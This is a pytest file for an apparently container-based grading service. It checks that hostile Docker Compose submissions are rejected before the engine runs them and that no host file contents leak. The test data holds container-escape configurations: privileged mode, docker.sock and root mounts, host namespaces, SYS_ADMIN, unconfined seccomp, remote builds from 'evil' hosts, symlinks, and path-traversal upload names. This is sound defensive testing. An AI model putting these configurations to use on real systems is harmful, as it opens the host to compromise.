"""Hostile compose files and submissions, each otherwise the correct answer, graded in full
mode: every one is rejected (or neutralised) before anything reaches the engine, and no
host file's content appears in anything the grading shows."""

from __future__ import annotations

import logging
import types
from pathlib import Path

import pytest

from exercises.grading import grader, sandbox
from exercises.grading.grader import grade_directory
from exercises.grading.types import RuntimeObservations, SandboxLimits, Status

from .figures import FIGURES
from .support import (
    DC,
    REFERENCE,
    app_lines,
    assert_well_formed,
    everything_shown,
    replaced,
    top_level,
    unique,
    write_submission,
)

pytestmark = pytest.mark.figure("hostile")
ETC = "/etc/drydock-canary-host"
OUTSIDE = "../{outside}"  # the canary folder next to the submission

# (case id, the rule it must be rejected under, compose edit). `{etc}` and `{outside}` are
# filled in with the host canary's paths.
REJECTED = [
    ("privileged", "privileged", lambda c: app_lines(c, "privileged: true")),
    ("bind-docker-sock", "bind-mount",
     lambda c: app_lines(c, "volumes: ['/var/run/docker.sock:/var/run/docker.sock']")),
    ("bind-root", "bind-mount", lambda c: app_lines(c, "volumes: ['/:/host']")),
    ("bind-etc", "bind-mount",
     lambda c: app_lines(c, "volumes:\n  - type: bind\n    source: /etc\n    target: /host-etc")),
    ("bind-parent-parent", "bind-mount", lambda c: app_lines(c, "volumes: ['../..:/up']")),
    ("network-host", "host-namespace", lambda c: app_lines(c, "network_mode: host")),
    ("pid-host", "host-namespace", lambda c: app_lines(c, "pid: host")),
    ("ipc-host", "host-namespace", lambda c: app_lines(c, "ipc: host")),
    ("cap-add-sys-admin", "cap-add", lambda c: app_lines(c, "cap_add: [SYS_ADMIN]")),
    ("devices", "devices", lambda c: app_lines(c, "devices: ['/dev/mem:/dev/mem']")),
    ("sysctls", "sysctls", lambda c: app_lines(c, "sysctls:\n  net.ipv4.ip_forward: 1")),
    ("seccomp-unconfined", "security-opt",
     lambda c: app_lines(c, "security_opt: ['seccomp:unconfined']")),
    ("apparmor-unconfined", "security-opt",
     lambda c: app_lines(c, "security_opt: ['apparmor=unconfined']")),
    ("env-file-host", "path", lambda c: app_lines(c, f"env_file: {ETC}")),
    ("env-file-outside", "path", lambda c: app_lines(c, f"env_file: {OUTSIDE}/canary.env")),
    ("secret-file-host", "path", lambda c: replaced(c, "./secrets/app_secret.txt", ETC)),
    ("secret-file-outside", "path",
     lambda c: replaced(c, "./secrets/app_secret.txt", f"{OUTSIDE}/secret.txt")),
    ("build-context-outside", "path",
     lambda c: app_lines(c, f"build:\n  context: {OUTSIDE}\n  dockerfile: Dockerfile")),
    ("build-context-url", "remote",
     lambda c: app_lines(c, "build: https://github.com/evil/payload.git#main")),
    ("extends-outside", "path",
     lambda c: app_lines(c, f"extends:\n  file: {OUTSIDE}/compose.yaml\n  service: base")),
    ("extends-url", "remote",
     lambda c: app_lines(c, "extends:\n  file: https://evil.example/compose.yaml\n  service: base")),
    ("include-outside", "path", lambda c: top_level(c, f"include:\n  - {OUTSIDE}/compose.yaml")),
    ("include-url", "remote",
     lambda c: top_level(c, "include:\n  - oci://registry.example.com/evil:latest")),
    ("external-volume", "external",
     lambda c: replaced(c, "  pgdata:\n    driver: local\n", "  pgdata:\n    external: true\n")),
    ("external-network", "external",
     lambda c: top_level(app_lines(c, "networks: [prod]"), "networks:\n  prod:\n    external: true")),
]  # fmt: skip


@pytest.fixture
def no_engine(monkeypatch):
    """Fails the test if the grader hands anything to the runtime (the engine's side)."""
    calls: list[object] = []

    def refuse(plan, limits, progress):
        calls.append(plan)
        raise AssertionError("a hostile submission reached the runtime")

    monkeypatch.setattr(sandbox, "observe", refuse)
    return calls


@pytest.fixture
def submission_dir(host_canary):
    outside: Path = host_canary["outside"]

    def make(files: dict[str, str], symlinks: dict[str, str] | None = None) -> Path:
        filled = {
            name: text.replace("../{outside}", f"../{outside.name}") for name, text in files.items()
        }
        return write_submission(outside.parent / unique("submission-"), filled, symlinks)

    return make


def assert_no_host_content(result, marker: str, caplog) -> None:
    shown = everything_shown(result)
    assert marker not in shown, "host file content appears in the grading output"
    assert marker not in caplog.text, "host file content appears in the grader's logs"


@pytest.mark.parametrize(("case", "rule", "edit"), REJECTED, ids=[c[0] for c in REJECTED])
def test_hostile_compose_is_rejected_before_the_engine(
    case, rule, edit, submission_dir, no_engine, host_canary, caplog
):
    caplog.set_level(logging.DEBUG)
    directory = submission_dir({**REFERENCE, DC: edit(REFERENCE[DC])})

    result = grade_directory(directory)

    assert_well_formed(result)
    assert result.status == Status.REJECTED, (result.status, result.error, result.policy)
    assert rule in [v.rule for v in result.policy], result.policy
    assert no_engine == [] and result.checks == [] and result.score == 0
    assert_no_host_content(result, host_canary["marker"], caplog)
    FIGURES.line(f"hostile {case}: rejected before the engine ({result.policy[0].detail})")


@pytest.mark.parametrize("target", ["etc", "outside"])
def test_symlink_out_of_the_submission_is_rejected(
    target, submission_dir, no_engine, host_canary, caplog
):
    caplog.set_level(logging.DEBUG)
    pointed = host_canary["etc"] if target == "etc" else host_canary["outside"] / "canary.env"
    if pointed is None:
        pytest.fail("the host canary could not be written to /etc")
    compose = app_lines(REFERENCE[DC], "env_file: app.env")
    directory = submission_dir({**REFERENCE, DC: compose}, symlinks={"app.env": str(pointed)})

    result = grade_directory(directory)

    assert_well_formed(result)
    assert result.status == Status.REJECTED and no_engine == []
    assert "symlink" in [v.rule for v in result.policy], result.policy
    assert_no_host_content(result, host_canary["marker"], caplog)
    FIGURES.line(f"hostile symlink-to-{target}: rejected before the engine "
                 f"({result.policy[0].detail})")  # fmt: skip


def test_volume_device_on_the_host_is_redirected_into_the_sandbox(
    submission_dir, monkeypatch, host_canary
):
    plans = []

    def record(plan, limits, progress):
        plans.append(plan)
        return RuntimeObservations(build_error="not run in this test")

    monkeypatch.setattr(sandbox, "observe", record)
    compose = replaced(REFERENCE[DC], "device: '/mnt/data/postgres'", "device: '/etc'")

    result = grade_directory(submission_dir({**REFERENCE, DC: compose}))

    assert_well_formed(result)
    device = Path(plans[0].volumes["pgdata"]["driver_opts"]["device"])
    assert device.is_relative_to(plans[0].workdir) and device.name == "pgdata"
    assert any("bind device /etc is redirected" in e for c in result.checks for e in c.evidence)
    FIGURES.line(f"hostile volume-device-etc: neutralised (device redirected to "
                 f"<workdir>/{device.relative_to(plans[0].workdir)})")  # fmt: skip


def test_enormous_memory_limit_is_clamped_on_the_engine(
    submission_dir, private_engine, monkeypatch
):
    limits = SandboxLimits(build_timeout_s=120, run_timeout_s=60)
    plans = []
    real_observe = sandbox.observe

    def spy(plan, limits_, progress):
        plans.append(types.SimpleNamespace(app=dict(plan.services["app"])))
        return real_observe(plan, limits_, progress)

    monkeypatch.setattr(sandbox, "observe", spy)
    compose = replaced(REFERENCE[DC], "memory: 512M", "memory: 1000G")

    result = grade_directory(submission_dir({**REFERENCE, DC: compose}), limits=limits)

    assert_well_formed(result)
    planned = plans[0].app["deploy"]["resources"]["limits"]["memory"]
    assert int(planned) == limits.memory_bytes  # clamped before the engine saw it
    evidence = "\n".join(e for c in result.checks for e in c.evidence)
    assert "memory limit 1024000 MiB is clamped to the sandbox maximum 1024 MiB" in evidence
    assert "runtime: container app: memory 1024 MiB" in evidence, evidence
    assert result.status == Status.PASSED, [c.summary for c in result.checks if not c.passed]
    FIGURES.line(
        "hostile memory-1000G: neutralised (clamped to 1024 MiB; the engine ran the app "
        "with HostConfig.Memory = 1 GiB)"
    )


def test_uploaded_names_cannot_leave_the_scratch_directory(no_engine, host_canary):
    """The web path (`grade_files`): a name that climbs out is refused before any write."""
    escape = f"../../../../../../{host_canary['outside'].name}/planted.txt"
    for name in (escape, "/etc/cron.d/drydock", "secrets/../../x", "a\\..\\..\\b"):
        result = grader.grade_files({**{k: v.encode() for k, v in REFERENCE.items()}, name: b"x"})
        assert_well_formed(result)
        assert result.status == Status.ERROR and "not a valid file name" in result.error
    assert not (host_canary["outside"] / "planted.txt").exists()
    assert no_engine == []
    FIGURES.line("hostile upload-names: ../, absolute and backslash names refused before any write")
